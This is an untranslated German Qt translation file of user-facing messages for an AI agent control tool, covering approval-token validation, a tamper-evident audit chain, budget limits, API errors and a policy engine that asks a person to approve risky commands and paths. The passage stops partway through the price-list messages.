<?xml version="1.0" encoding="utf-8"?>
<!DOCTYPE TS>
<TS version="2.1" language="de_DE">
<context>
    <name></name>
    <message>
        <source>longer than %1 bytes</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>contains characters outside base64url</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>a token has exactly three parts separated by dots</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>a part of the token is empty</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the header is not valid base64url</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the header is not valid JSON</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the header is not a JSON object and names no algorithm; only HS256 is accepted</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the header&apos;s algorithm is not HS256, the only algorithm accepted</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the header carries the field &quot;%1&quot;, which approval tokens never use</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the header carries an unsupported field</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the header&apos;s type is not JWT; this is another kind of token</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the token carries no signature</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the signature is not valid base64url</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the signature could not be computed</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the signature does not match (forged, altered, or signed with another secret, e.g. before the secret was rotated)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the payload is not valid base64url</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the payload is not a JSON object</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the token id (jti) is missing or not a UUID</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>a required claim (iss, sub, toolName, scope, runId, argsSha256) is missing or not a string</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>iat and exp (and nbf if present) must be whole seconds written as JSON integers between 0 and 2^53</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the token was not issued by m1-agent-control</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the token is not an approval token</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the scope claim is not read, write or execute</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the toolName claim is empty</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>argsSha256 is not 64 lowercase hexadecimal digits</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the lifetime (exp - iat = %1 s) lies outside (0, %2] seconds</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>expired at %1 (now %2, leeway %3 s); approve the call again</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>not valid before %1 (now %2, leeway %3 s)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>issued in the future at %1 (now %2, leeway %3 s)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the token approves a different tool</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the token&apos;s scope %1 differs from the tool&apos;s scope %2</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the token approves different arguments</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the token belongs to a different run</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the approval was already used; approve the call again</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the approval was revoked</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>AgentProfiles</name>
    <message>
        <source>The built-in agent profiles are missing.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Cannot read the agent profiles file %1.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Agent profiles file %1: %2</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>not a JSON object (%1)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&quot;agents&quot; must be an array</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>every agent needs a &quot;name&quot;</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>agent &quot;%1&quot;: &quot;tools&quot; must be an array of names</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>agent &quot;%1&quot;: max_tokens and limits must be positive, context_share in (0, 1]</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>AlertRepository</name>
    <message>
        <source>Cannot read the alerts: %1</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ApiErrorClassifier</name>
    <message>
        <source>Claude rejected the API key (authentication failed). Check the key in the settings.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The API budget is exhausted (spend limit reached%1). Not retried: raise the limit or wait until it resets.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Claude&apos;s rate limit was reached.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Claude is overloaded. Try again in a few minutes.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The API key is not allowed to do this%1.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The API does not know this model or endpoint%1.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The request is too large for the API (HTTP %1): the conversation or one tool result is too big.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The API timed out processing the request%1.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The API refused the request as invalid%1.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Unexpected response from the API endpoint (HTTP %1, content type &quot;%2&quot;).</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>none</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The API reported an internal error (HTTP %1)%2.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The API reported an error in the stream%1.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>[request-id: %1]</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>AuditChain</name>
    <message>
        <source>Preparing the audit chain</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Locking the audit chain</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The audit chain head is missing; the database was tampered with. Run &quot;m1ctl audit verify&quot;.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Writing an audit event</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Advancing the audit chain</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Starting the chain verification</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Reading the audit chain head</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The audit chain head row is missing: the chain cannot be verified and the database was tampered with.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Reading the audit chain anchor</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Preparing the chain verification</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Reading audit events</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Audit event %1 lies before the start of the chain (%2): a row was inserted.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Audit events %1 to %2 are missing: rows were removed.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Audit event %1 does not follow event %2: rows were removed, inserted or reordered here.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Audit event %1 was changed (neither its content nor its link to event %2 match).</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Audit event %1 was changed: its content does not match its hash.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The audit chain ends at event %1 but its head records event %2: rows were removed from the end (or the table was emptied).</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The audit chain does not end where its head says (event %1): the head or the last rows were changed.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The audit chain is intact: %1 events checked, %2 to %3.</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>AuditQueries</name>
    <message>
        <source>A history page holds 1 to %1 runs, not %2.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Preparing the history query</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Reading the history</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Reading run &quot;%1&quot;</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>There is no run &quot;%1&quot; in the audit store.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Reading the tool calls of run &quot;%1&quot;</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Reading the API calls of run &quot;%1&quot;</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Preparing a percentile query</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Computing percentiles</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Reading the run metrics</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Reading the tool statistics</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Reading the agent summary</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Reading the approval metrics</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Reading the tool error rate</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Reading the API error rate</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Reading the costs by day and model</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Reading the tokens by day</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Reading the costs of the last 30 days</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>AuditRetention</name>
    <message>
        <source>The retention period must be zero or more days.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Starting the prune</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Locking the audit chain</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Finding the first kept audit event</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Counting what the prune removes</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Reading the last pruned audit event</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Removing old audit rows</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Recording the chain anchor</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Committing the prune</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>AuditSeeder</name>
    <message>
        <source>Seeding needs a run count &gt;= 0 and 0 to 100000 calls per run.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Preparing the seeded runs</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Preparing the seeded tool calls</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Preparing the seeded API calls</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Preparing the seeded events</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Starting a seed transaction</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Locking the audit chain</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Writing seeded run %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Writing a seeded tool call of run %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Writing a seeded API call of run %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Writing a seeded audit event</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Advancing the audit chain</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Committing seeded history</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>AuditStore</name>
    <message>
        <source>Checking the audit database</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The approval token has no id (jti).</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Recording the approval token</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The approval token was revoked.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The approval token was already used; each token allows one execution.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Reading the approval token ledger</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Cleaning the approval token ledger</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>BudgetGuard</name>
    <message>
        <source>the run&apos;s budget</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the daily budget</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the monthly budget</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>No new run: %1 is used up (%2 spent of %3).</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 is used up: %2 spent of %3.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The next turn&apos;s cost is unknown (no price for the model), so it cannot be checked against %1.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The next turn may cost up to %1, more than is left of %2 (%3 of %4 spent).</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1% of %2 is used: %3 spent of %4.</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ClaudeProvider</name>
    <message>
        <source>Refusing the API address &quot;%1&quot;: only https is allowed (plain http only to this computer).</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>CommandAnalyzer</name>
    <message>
        <source>su switches to another user</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>xargs adds arguments read from its input to the command</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the command nests wrappers or shells too deeply to analyse</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the script changes the working folder (%1), so the paths after it cannot be checked</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&quot;%1&quot; runs text or a file as a script</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 -c has no script</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 runs the script file &quot;%2&quot;, which is not analysed</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 without -c reads commands from its input</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>scripts for %1 are not analysed</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 is given code to run that is not analysed</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 runs a program file that is not analysed</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the %1 program can run commands or write files</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>git %1 can make git run other programs (core.pager, alias.*, core.sshCommand, …)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>git rebase --exec runs a command that is not analysed</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>git %1 can run other programs</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>find %1 writes to a file</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 runs a command with other privileges</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 runs another command; its options are not analysed</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1: the option &quot;%2&quot; is not known to the analyser</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1: the option &quot;-%2&quot; is not known to the analyser</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 runs the command with other privileges; it is never allowed automatically</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 changes the environment or folder of the command; it is never allowed automatically</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>sudo keeps or sets environment variables</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>su without -c starts a shell</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 without a command starts an interactive shell</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>CostCsvWriter</name>
    <message>
        <source>Cannot write the cost report: %1</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>CostReport</name>
    <message>
        <source>Cannot read the costs: %1</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>CostTracker</name>
    <message>
        <source>No price is known for the model &quot;%1&quot;: its cost is unknown and budgets cannot count it. Add it to %2.</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>DemoWorkspace</name>
    <message>
        <source>Cannot create the demo workspace %1.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Cannot write %1: %2</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>EditFileTool</name>
    <message>
        <source>old_string is empty; give the exact text to replace.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>old_string and new_string are the same; nothing would change.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&quot;%1&quot; is larger than 16 MiB; it cannot be edited with edit_file.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&quot;%1&quot; looks like a binary file (it contains NUL bytes); only text files can be edited.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&quot;%1&quot; is not valid UTF-8 text; only UTF-8 text files can be edited.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>old_string was not found in &quot;%1&quot;; it must match the file exactly, including whitespace and indentation.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>old_string occurs %1 times in &quot;%2&quot;; it must occur exactly once. Include more surrounding lines to make it unique.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Edited %1: replaced 1 occurrence at line %2.</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>HealthMonitor</name>
    <message>
        <source>The 95th percentile of %1 is %2 s, above the threshold of %3 s.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>tool execution time</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>API latency</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1% of %2 tool calls failed (threshold %3%).</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>HistoryMetrics</name>
    <message>
        <source>Cannot read metrics from the audit store: %1</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>JsonLogger</name>
    <message>
        <source>Cannot open the log file %1: %2</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Cannot write the log file %1: %2</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>JsonSchema</name>
    <message>
        <source>%1: the schema keyword &quot;%2&quot; is malformed.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>an integer too large to be exact</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>expected %1, got %2</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>must be the value %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>must be one of %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>text is too long (%1 characters, at most %2 allowed)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>text is too short (%1 characters, at least %2 required)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>text does not match the pattern %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 is below the minimum %2</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 is above the maximum %2</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>too few items (%1, at least %2 required)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>too many items (%1, at most %2 allowed)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>required property &quot;%1&quot; is missing</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>unknown property &quot;%1&quot; is not allowed</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ListDirectoryTool</name>
    <message>
        <source> -&gt; (outside the workspace, not followed)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source> -&gt; (link loop)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source> -&gt; (missing target)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>[cannot list: %1]</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source> (%1 bytes)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source> (special file)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>(%1 is empty)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>
[truncated: only the first %1 entries are listed; list a subfolder or use a smaller depth]</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ModelCatalog</name>
    <message>
        <source>%1 is not a valid model list: %2</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>not a JSON object</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1: model %2 has no id.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1: model %2 has an invalid end_of_life date.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The built-in model list is missing.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Cannot read %1: %2</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>MonitoringSettings</name>
    <message>
        <source>The settings file %1 is invalid: %2</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 must be an object</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>unknown key &quot;%1.%2&quot;</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1.%2 must be a %3 from %4 to %5</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>whole number</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>number</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>unknown key &quot;monitoring.%1&quot;</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>monitoring.budgets.onExceed must be &quot;stop&quot; or &quot;ask&quot;</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>monitoring.metricsEndpoint.enabled must be true or false</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>monitoring.log.level must be one of debug, info, warning, critical</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>monitoring.log.file must be a path</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>PolicyEngine</name>
    <message>
        <source>&quot;%1&quot; (rules set in the application)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&quot;%1&quot; (%2, line %3)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Denied by the rule %1.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Denied by the rule %1: %2.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The rule %1 asks for approval.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The rule %1 asks for approval: %2.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Allowed by the rule %1.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>No rule decided this call</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1; %2 has the scope %3, and %3 tools need a person&apos;s approval.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1; %2 has the scope %3, and %3 tools run without approval.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The tool &quot;%1&quot; is disabled.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&quot;%1&quot; is not an available tool; only registered tools can run (names are exact and case-sensitive).</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The arguments do not match the schema of %1: %2</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>This run has reached its limit of %1 tool calls.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>This run has gone past its limit of %1 steps.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>This run has reached its time limit of %1 seconds.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 was called %2 times in the last %3 seconds; the limit is %4.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The path &quot;%1&quot; is refused: %2</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 of &quot;%2&quot;</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Warning: &quot;%1&quot; is a protected path (%2). Changing it can make programs run on this machine or change the agent&apos;s own settings, so a person must approve it whatever the allow rules say.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Warning: searching &quot;%1&quot; may read files that the rule %2 covers; a person must approve it.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Every element of argv must be a string.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The command is empty.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&quot;%1&quot; is not a program. A command starts with a program name; variable assignments such as NAME=value are not accepted, and the environment is never taken from the model.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The working folder &quot;%1&quot; is refused: %2</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the command &quot;%1&quot;</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&quot;%1&quot; runs &quot;%2&quot;</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Warning: the command may read or change paths inside &quot;%1&quot; that the rule %2 covers (denied paths may be read).</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the command &quot;%1&quot; names the path &quot;%2&quot;</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Warning: the command names &quot;%1&quot;, a protected path (%2); changing it can make programs run on this machine or change the agent&apos;s own settings.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the command names the path &quot;%1&quot;</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Also: %1.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>A person must approve it whatever the allow rules say.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The command &quot;%1&quot; cannot be allowed automatically: %2. A person must approve it.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>A person must approve it.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>No allow rule covers &quot;%1&quot; in &quot;%2&quot;</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>No rule decided &quot;%1&quot;</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Every program of the command is allowed, by the rules %1.</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>PolicyRules</name>
    <message>
        <source>empty rule</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>spaces before or after the rule</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>unbalanced parentheses</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the rule does not start with a tool name</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&quot;%1&quot; is not a tool name (letters, digits, &apos;_&apos; and &apos;-&apos;)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>unbalanced parentheses: the pattern must end with &apos;)&apos;</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>empty pattern; write &quot;%1&quot; alone to match every call of the tool</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>unknown tool &quot;%1&quot; (known tools: %2)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the tool &quot;%1&quot; takes no pattern; write &quot;%1&quot; alone</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>path patterns are relative to the workspace; &quot;%1&quot; is not</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>path patterns may not contain &quot;..&quot;</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the pattern contains a NUL character</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>a command rule starts with a program, not an assignment (&quot;%1&quot;)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>a command rule starts with a program, not an option (&quot;%1&quot;)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>(rules)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1:%2: %3; the rules file was not loaded</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>invalid JSON (%1)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the rules file must be a JSON object with the lists &quot;allow&quot;, &quot;ask&quot; and &quot;deny&quot;</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the key &quot;%1&quot; appears twice</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>unknown key &quot;%1&quot; (expected &quot;allow&quot;, &quot;ask&quot; or &quot;deny&quot;)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&quot;%1&quot; must be a list of strings</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>entry %1 in &quot;%2&quot; is not a string</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 rule &quot;%2&quot;: %3</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1: cannot read the rules file (%2); no rules were loaded</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1: the rules file is larger than 4 MiB; no rules were loaded</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>PricingTable</name>
    <message>
        <source>The built-in price list is missing from this build.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Cannot read the price list %1: %2</source>
        <translation type="unfinished"></translation>
